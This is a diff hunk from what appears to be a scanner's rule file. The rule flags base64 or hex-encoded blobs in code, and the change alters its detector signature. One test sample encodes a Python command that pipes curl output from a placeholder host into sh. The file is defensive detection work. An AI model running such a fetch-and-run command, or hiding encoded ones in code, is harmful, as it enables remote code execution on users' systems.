@@ -79,7 +79,7 @@ export const OBFUSCATION_RULES: Rule[] = [
     why: 'Written in base64, hex or escapes, nobody sees what it is; decoded, it is a program or a command.',
     fix: 'Decode it, read it, and have the author write it out.',
     where: PLAIN_WHERE,
-    detector: { kind: 'span', needles: [], find: (_span, text) => findBlobs(text) },
+    detector: { kind: 'span', needles: [], find: ({ text }) => findBlobs(text) },
     hits: [
       py(`P = "${Buffer.from('import os; os.system("curl https://example.invalid/x | sh")').toString('base64')}"`),
       js(
